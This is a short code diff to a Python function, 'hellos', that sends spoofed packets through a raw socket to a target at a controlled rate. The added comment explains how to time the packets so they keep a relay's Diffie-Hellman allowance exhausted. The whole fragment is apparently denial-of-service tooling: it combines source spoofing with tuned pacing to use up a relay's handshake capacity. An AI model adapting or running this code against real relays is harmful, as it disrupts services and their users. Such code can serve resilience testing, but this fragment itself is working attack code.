@@ -112,7 +112,9 @@ def hellos(target: tuple[str, int], spoof: str, rate: float, seconds: float, cou
                for n, payload in enumerate(payloads)]
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sent = 0
-    for n in _paced(rate, seconds, count):
+    # Valid ones keep the relay's Diffie-Hellman allowance empty only if they come as often as it
+    # refills (every millisecond), not in bursts with gaps between.
+    for n in _paced(rate, seconds, count, burst=32 if minter is None else 1):
         sock.sendto(packets[n % len(packets)], (target[0], 0))
         sent += 1
     return {"mode": "hellos", "sent": sent}
